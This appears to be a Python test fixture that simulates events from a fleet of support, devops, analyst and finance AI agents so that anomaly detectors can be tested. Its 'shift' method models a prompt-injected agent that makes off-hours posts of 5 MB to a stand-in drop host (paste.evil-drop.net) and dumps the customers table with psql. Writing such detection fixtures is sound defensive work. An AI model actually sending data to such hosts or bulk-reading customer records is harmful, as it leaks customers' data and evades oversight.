"""A small seeded fleet generator for the baseline tests (the product simulator lives elsewhere).

Roles with distinct habits: ``support`` (tool calls, emails to many customers), ``devops``
(shell on a set of hosts), ``analyst`` (SQL on a few tables, row counts), ``finance`` (payments
to a fixed set of IBANs). Agents work sessions inside their working hours with a per-agent rate
and a burst at session start. Injections return the event ids they added so tests can count
what was caught.
"""

from __future__ import annotations

import random
from dataclasses import dataclass, field
from typing import Any

from detectors.base import Event

T0 = 1_767_225_600  # 2026-01-01 00:00 UTC, a Thursday
DAY = 86400

ROLES: dict[str, dict[str, Any]] = {
    "support": {
        "kind": "tool_call",
        "tools": [
            "search_kb",
            "get_ticket",
            "update_ticket",
            "send_email",
            "lookup_customer",
            "add_note",
        ],
    },
    "devops": {
        "kind": "shell",
        "tools": ["kubectl", "git", "grep", "cat", "curl", "ssh", "systemctl", "journalctl"],
    },
    "analyst": {"kind": "sql", "tools": ["psql"]},
    "finance": {
        "kind": "tool_call",
        "tools": ["get_invoice", "pay_invoice", "get_report", "send_email"],
    },
}
HOSTS = [f"web{i}.prod.corp" for i in range(12)]
TABLES = ["orders", "products", "events", "sessions", "inventory", "shipments"]
IBANS = [f"DE{44 + i:02d}500105175407324{i:03d}" for i in range(10)]
CUSTOMER_DOMAINS = ["gmail.com", "outlook.com", "yahoo.com", "acme.io", "globex.com", "initech.com"]


@dataclass
class AgentProfile:
    agent_id: str
    role: str
    tools: list[str]
    start_hour: float
    length_hours: float
    rate: float  # actions per minute in a session
    hosts: list[str] = field(default_factory=list)
    tables: list[str] = field(default_factory=list)
    ibans: list[str] = field(default_factory=list)
    weekend: bool = False


class Fleet:
    def __init__(self, agents_per_role: int = 6, seed: int = 7) -> None:
        self.rng = random.Random(seed)
        self.agents: list[AgentProfile] = []
        self._n = 0
        for role, spec in ROLES.items():
            for i in range(agents_per_role):
                r = self.rng
                tools = spec["tools"][:]
                if len(tools) > 3:
                    tools = r.sample(tools, len(tools) - 1)
                self.agents.append(
                    AgentProfile(
                        agent_id=f"{role}-{i:02d}",
                        role=role,
                        tools=tools,
                        start_hour=r.uniform(6.0, 10.0),
                        length_hours=r.uniform(6.0, 9.0),
                        rate=r.uniform(0.4, 2.0),
                        hosts=r.sample(HOSTS, 4),
                        tables=r.sample(TABLES, 4),
                        ibans=r.sample(IBANS, 5),
                        weekend=r.random() < 0.2,
                    )
                )

    # ---------------------------------------------------------------- one action
    def action(self, a: AgentProfile, tool: str | None = None) -> dict[str, Any]:
        r = self.rng
        spec = ROLES[a.role]
        tool = tool or r.choice(a.tools)
        kind = spec["kind"]
        act: dict[str, Any] = {"kind": kind, "tool": tool}
        if a.role == "support":
            if tool == "send_email":
                user = f"cust{r.randrange(100000)}@{r.choice(CUSTOMER_DOMAINS)}"
                act["args"] = {"to": user, "subject": "Your ticket"}
                act["command"] = f"send_email(to={user})"
                act["bytes_out"] = int(r.lognormvariate(8, 0.5))
            else:
                act["args"] = {"ticket_id": str(r.randrange(10**6))}
                act["command"] = f"{tool}(ticket_id)"
        elif a.role == "devops":
            host = r.choice(a.hosts)
            if tool == "curl":
                act["command"] = f"curl -s https://{host}/healthz"
            elif tool == "ssh":
                act["command"] = f"ssh deploy@{host} uptime"
                act["target"] = host
            elif tool == "cat":
                act["command"] = f"cat /var/log/app/{r.choice(['app', 'err'])}.log"
            else:
                act["command"] = f"{tool} {r.choice(['status', 'get pods', 'log', '-n 50'])}"
        elif a.role == "analyst":
            table = r.choice(a.tables)
            act["command"] = f"SELECT * FROM {table} WHERE day = '2026-01-01' LIMIT 1000"
            act["target"] = table
            act["rows"] = int(r.lognormvariate(6, 0.7))
            act["bytes_out"] = act["rows"] * 200
        else:  # finance
            if tool == "pay_invoice":
                act["args"] = {"iban": r.choice(a.ibans), "amount": r.randrange(100, 5000)}
                act["command"] = "pay_invoice"
            elif tool == "send_email":
                act["args"] = {"to": "cfo@corp.example"}
                act["command"] = "send_email(to=cfo)"
            else:
                act["command"] = f"{tool}()"
        return act

    def event(
        self, a: AgentProfile, ts: float, action: dict[str, Any], decision: str = "allow"
    ) -> Event:
        self._n += 1
        data = {
            "schema_version": "1",
            "event_id": f"e{self._n:08d}",
            "ts": ts,
            "agent_id": a.agent_id,
            "owner": "owner@corp",
            "session_id": f"{a.agent_id}-{int(ts // DAY)}",
            "environment": "prod",
            "enforcement_point": "gw",
            "action": action,
            "decision": decision,
            "agent_role": a.role,
        }
        return Event(data, float(ts))

    # ---------------------------------------------------------------- benign days
    def day_events(
        self, a: AgentProfile, day: int, start_shift: float = 0.0, rate_mult: float = 1.0
    ) -> list[Event]:
        r = self.rng
        weekday = (day + 3) % 7
        if weekday >= 5 and not a.weekend:
            return []
        out: list[Event] = []
        start = T0 + day * DAY + (a.start_hour + start_shift + r.uniform(-0.5, 0.5)) * 3600
        end = start + a.length_hours * 3600
        t = start
        while t < end:
            session_len = r.uniform(20, 90) * 60
            s_end = min(end, t + session_len)
            first = True
            while t < s_end:
                lam = a.rate * rate_mult * (2.5 if first else 1.0) / 60.0
                t += r.expovariate(lam)
                first = t - (s_end - session_len) < 60
                if t < s_end:
                    out.append(self.event(a, t, self.action(a)))
            t = s_end + r.uniform(10, 60) * 60
        return out

    def benign(self, days: int, start_day: int = 0) -> list[Event]:
        events: list[Event] = []
        for d in range(start_day, start_day + days):
            for a in self.agents:
                events.extend(self.day_events(a, d))
        events.sort(key=lambda e: (e.ts, e.agent_id))
        return events

    # ---------------------------------------------------------------- injections
    def shift(self, a: AgentProfile, day: int, hour: float = 3.0, n: int = 90) -> list[Event]:
        """The prompt-injected agent: off-hours burst, a tool it never used, a new destination."""
        t = T0 + day * DAY + hour * 3600
        out = []
        for i in range(n):
            t += self.rng.uniform(0.3, 1.2)
            if i % 3 == 0:
                act = {
                    "kind": "tool_call",
                    "tool": "http_post",
                    "command": "http_post(url=https://paste.evil-drop.net/upload)",
                    "args": {"url": "https://paste.evil-drop.net/upload", "data": "..."},
                    "bytes_out": 5_000_000,
                }
            elif i % 3 == 1:
                act = {
                    "kind": "shell",
                    "tool": "psql",
                    "command": "psql -c 'select * from customers'",
                    "target": "db-prod.corp",
                }
            else:
                act = self.action(a)
            out.append(self.event(a, t, act))
        return out


def run(detector: Any, events: list[Event]) -> dict[str, list[Any]]:
    """Score then learn each event; returns findings per event_id (only events with findings)."""
    found: dict[str, list[Any]] = {}
    for ev in events:
        fs = detector.score_one(ev)
        if fs:
            found[ev.event_id] = fs
        detector.learn_one(ev)
    return found
